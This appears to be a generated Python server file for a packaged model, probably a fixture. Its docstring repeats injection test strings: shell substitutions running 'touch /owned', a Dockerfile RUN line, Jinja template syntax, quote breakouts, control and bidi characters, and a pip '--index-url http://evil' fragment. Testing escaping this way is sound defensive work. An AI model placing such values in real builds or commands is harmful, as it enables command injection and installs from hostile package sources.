"""\\x1b[31mred\\x1b[0m{{ 7 * 7 }}{% raw %}line\\nRUN touch /ownedcarriage\\rreturn\\u2028separator\\x85next$(touch /owned) `touch /owned` ${HOME}quote\" 'quote' \\\" \\\"\"\"\\nimport os\\n\"\"\"\\u202eright to left\\u2066\\x00nul| pipe | `code` ``more``1.9.1 --index-url http://evilzero\\u200bwidth of \\x1b[31mred\\x1b[0m{{ 7 * 7 }}{% raw %}line\\nRUN touch /ownedcarriage\\rreturn\\u2028separator\\x85next$(touch /owned) `touch /owned` ${HOME}quote\" 'quote' \\\" \\\"\"\"\\nimport os\\n\"\"\"\\u202eright to left\\u2066\\x00nul| pipe | `code` ``more``1.9.1 --index-url http://evilzero\\u200bwidth \\x1b[31mred\\x1b[0m{{ 7 * 7 }}{% raw %}line\\nRUN touch /ownedcarriage\\rreturn\\u2028separator\\x85next$(touch /owned) `touch /owned` ${HOME}quote\" 'quote' \\\" \\\"\"\"\\nimport os\\n\"\"\"\\u202eright to left\\u2066\\x00nul| pipe | `code` ``more``1.9.1 --index-url http://evilzero\\u200bwidth, served over HTTP: 12 inputs per row.

Run it with `python -m gunicorn`, which reads gunicorn.conf.py next to this file.
GET / lists the routes, GET /openapi.json describes them.
"""

from modelpack.serving import Service, create_app

service = Service.load(__file__)  # verified and loaded once, before gunicorn forks its workers
app = create_app(service)

# This file is yours. `app` is a Flask application: add routes and hooks below.
# `service.predict(rows)` returns what POST /predict returns.
# Serve fewer protocols with create_app(service, protocols=["predict", "v2"]).
